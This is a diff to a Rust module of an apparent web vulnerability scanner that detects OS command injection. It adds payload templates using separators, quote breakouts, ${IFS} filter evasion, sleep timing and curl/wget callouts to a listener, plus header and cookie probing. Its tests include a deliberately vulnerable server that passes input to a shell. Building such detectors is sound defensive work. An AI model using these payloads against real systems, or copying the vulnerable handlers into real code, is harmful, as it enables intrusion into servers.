@@ -58,9 +58,9 @@ const SHOWN: &[&str] = &[
 /// What none of the signs that separate commands brings: within the words of a command, or where a filter takes away a word
 /// or a sign.
 const OTHERWISE: &[&str] = &[
-    "{v}$(echo $(({a}*{b})))",
+    "{v}$(echo${IFS}$(({a}*{b})))",
     "{v}`echo $(({a}*{b}))`",
-    "{v};expr {a} \\* {b}",
+    "{v};expr {a} \\* {b};\nexpr {a} \\* {b}\n#'\nexpr {a} \\* {b}\n#\"\nexpr {a} \\* {b}\n#",
     "{v};e'c'ho $(({a}*{b}))",
     "{v}%0aecho $(({a}*{b}))%0a",
     "echo $(({a}*{b}))",
@@ -68,23 +68,27 @@ const OTHERWISE: &[&str] = &[
     "{v}\"&set /a {a}*{b}&\"",
 ];
 
-const WITHIN: &[&str] = &["{v}$(sleep {t})", "{v}`sleep {t}`"];
+const WITHIN: &[&str] =
+    &["{v}$(sleep${IFS}{t})", "{v}`sleep {t}`", "{v}\nsleep {t}\n#'\nsleep {t}\n#\"\nsleep {t}\n#"];
+
+/// What waits in a header or cookie that is never shown, within and without quotes.
+const LOGGED: &str = "{v}$(sleep {t})';sleep {t};'";
 
 const WAITING: &[&str] = &[
     "{v};sleep {t};#';sleep {t};#\";sleep {t};#",
     "{v}$(sleep {t})",
     "{v}|sleep {t} #'|sleep {t} #\"|sleep {t} #",
-    "{v}\nsleep {t}\n",
+    "{v}\nsleep {t}\n#'\nsleep {t}\n#\"\nsleep {t}\n#",
     "{v}`sleep {t}`",
     "{v}&sleep {t} #'&sleep {t} #\"&sleep {t} #",
-    "{v};sleep${IFS}{t};",
+    "{v};sleep${IFS}{t};#';sleep${IFS}{t};#\";sleep${IFS}{t};#",
     "{v}|sleep${IFS}{t}",
 ];
 
 /// What calls the listener, with whatever program is there for it.
 const CALLING: &[&str] = &[
     "{v};curl -sm3 {u}||wget -qT3 -O- {u};#';curl -sm3 {u}||wget -qT3 -O- {u};#\";curl -sm3 {u}||wget -qT3 -O- {u};#",
-    "{v}$(curl -sm3 {u}||wget -qT3 -O- {u})",
+    "{v}$(curl${IFS}-sm3${IFS}{u}||wget${IFS}-qT3${IFS}-O-${IFS}{u})",
     "{v}|curl -sm3 {u} #'|curl -sm3 {u} #\"|curl -sm3 {u} #",
     "{v}\ncurl -sm3 {u}||wget -qT3 -O- {u}\n",
     "{v}&curl -sm3 {u}&\"&curl -sm3 {u}&",
@@ -102,6 +106,11 @@ impl Check for Command {
         point: &'a Point,
     ) -> Option<BoxFuture<'a, ()>> {
         Some(probe(bench, entry, point).boxed())
+    }
+
+    fn try_entry<'a>(&'a self, bench: &'a Bench<'a>, entry: &'a Entry) -> Option<BoxFuture<'a, ()>> {
+        let work = async { timing::unseen(bench, entry, &[LOGGED], (ABOUT.qids, 990_004)).await };
+        timing::may_log(entry).then(|| work.boxed())
     }
 
     fn try_site<'a>(&'a self, bench: &'a Bench<'a>) -> Option<BoxFuture<'a, ()>> {
@@ -147,10 +156,27 @@ async fn late(bench: &Bench<'_>) {
     }
 }
 
-/// A command behind all signs that separate commands, within and without quotes of each kind.
-fn behind_all(command: &str) -> String {
-    let all = format!(";{command}&{command}|{command}\n{command}\n");
-    format!("{{v}}{all}#'{all}#\"{all}#")
+/// A command behind all signs that separate commands, within and without quotes of each kind. It still runs where a filter
+/// takes away one of the signs, or all blanks and ends of lines. Headers have no ends of lines, and cookies no double quotes.
+fn behind_all(command: &str, place: &Place) -> String {
+    if matches!(place, Place::Header | Place::Cookie) {
+        let all = format!("&{command}|{command};{command};#");
+        return match place {
+            Place::Cookie => format!("{{v}}{all}'{all}"),
+            _ => format!("{{v}}{all}'{all}\"{all}"),
+        };
+    }
+    let all = format!("&{command}|{command};{command};\n{command};\n#");
+    format!("{{v}}{all}'{all}\"{all}")
+}
+
+/// A template that ends in a comment, ended as the usual value ends, where that is the name of a file: what asks for an ending
+/// finds it there.
+fn ended(template: &str, point: &Point) -> String {
+    let ending = point.value.rsplit_once('.').map_or("", |(_, ending)| ending);
+    let is_ending =
+        (2..=4).contains(&ending.len()) && ending.chars().all(|letter| letter.is_ascii_alphabetic());
+    if is_ending && template.ends_with('#') { format!("{template}.{ending}") } else { template.to_owned() }
 }
 
 async fn by_output(
@@ -158,21 +184,26 @@ async fn by_output(
     entry: &Entry,
     (point, known): (&Point, &Facts),
 ) -> Option<(String, Proof)> {
-    let all = behind_all("echo${IFS}$(({a}*{b}))");
-    let at_once = computed::attempts(&[all.as_str()], entry, point);
+    let all = behind_all("echo${IFS}$(({a}*{b}))", &point.place);
+    let attempts = |templates: &[&str]| {
+        let ended: Vec<String> = templates.iter().map(|template| ended(template, point)).collect();
+        let ended: Vec<&str> = ended.iter().map(String::as_str).collect();
+        computed::attempts(&ended, entry, point)
+    };
+    let at_once = attempts(&[all.as_str()]);
     let attempt = at_once.first()?;
     let answer = bench.send_of(entry, &entry.request.with(point, &attempt.payload)).await.ok()?;
     let is_refused = known.refuses(&answer);
     let is_shown = attempt.expect.find(&Seen { response: answer, ..Seen::default() }).is_some();
     if is_shown || is_refused {
-        let list = computed::attempts(SHOWN, entry, point);
+        let list = attempts(SHOWN);
         let found = computed::prove_first(bench, entry, point, &list).await;
         if found.is_some() || is_refused {
             return found;
         }
         return computed::prove_first(bench, entry, point, &at_once).await;
     }
-    computed::prove_first(bench, entry, point, &computed::attempts(OTHERWISE, entry, point)).await
+    computed::prove_first(bench, entry, point, &attempts(OTHERWISE)).await
 }
 
 async fn by_waiting(
@@ -180,11 +211,13 @@ async fn by_waiting(
     entry: &Entry,
     (point, known): (&Point, &Facts),
 ) -> Option<(String, Proof)> {
-    let all = behind_all("sleep${IFS}2").replace("{v}", &point.value);
+    let all = ended(&behind_all("sleep${IFS}2", &point.place), point).replace("{v}", &point.value);
     let answer = bench.send_of(entry, &entry.request.with(point, &all)).await.ok()?;
     let may_wait = answer.elapsed >= timing::SIGN + entry.response.elapsed || known.refuses(&answer);
     let list = if may_wait { WAITING } else { WITHIN };
-    timing::prove_first(bench, entry, point, list).await
+    let list: Vec<String> = list.iter().map(|template| ended(template, point)).collect();
+    let list: Vec<&str> = list.iter().map(String::as_str).collect();
+    timing::prove_first(bench, entry, point, &list).await
 }
 
 #[cfg(test)]
@@ -215,6 +248,19 @@ mod tests {
                 &format!("echo looking for {}", host.replace([';', '|', '&', '$', '`'], ""))
                     .replace("expr", ""),
             ),
+            "/only-newline" => {
+                shell(&format!("echo \"looking for {}\"", host.replace([';', '|', '&', '$', '`', '('], "")))
+            }
+            "/no-space" => {
+                shell(&format!("echo {} >/dev/null", host.replace(char::is_whitespace, "")));
+                "done".to_owned()
+            }
+            "/ending" if !host.ends_with(".test") => "Not a name".to_owned(),
+            "/ending" => shell(&format!("cat /nowhere/{host}; echo end")),
+            "/agent" => {
+                shell(&format!("echo \"{}\"", asked.header("user-agent")));
+                "welcome".to_owned()
+            }
             "/hidden" => {
                 shell(&format!("echo {host}"));
                 "done".to_owned()
@@ -236,11 +282,27 @@ mod tests {
     #[tokio::test]
     async fn commands_are_found_in_quotes_and_behind_filters() {
         let server = serve(answer).await;
-        for path in ["/plain", "/single", "/double", "/no-semicolon", "/no-blanks", "/hidden"] {
+        let paths = [
+            "/plain",
+            "/single",
+            "/double",
+            "/no-semicolon",
+            "/no-blanks",
+            "/hidden",
+            "/only-newline",
+            "/no-space",
+            "/ending",
+        ];
+        for path in paths {
             let found = scan(&Command, server, &format!("{path}?host=a.test")).await;
             assert_eq!(found.len(), 1, "{path}");
             assert_eq!((found[0].qid, found[0].parameter.as_deref()), (990_004, Some("host")), "{path}");
         }
+        let found = scan(&Command, server, "/agent").await;
+        assert_eq!(
+            found.iter().map(|found| found.parameter.as_deref()).collect::<Vec<_>>(),
+            [Some("User-Agent")]
+        );
         for path in ["/checked", "/argument", "/echo"] {
             assert!(scan(&Command, server, &format!("{path}?host=a.test")).await.is_empty(), "{path}");
         }
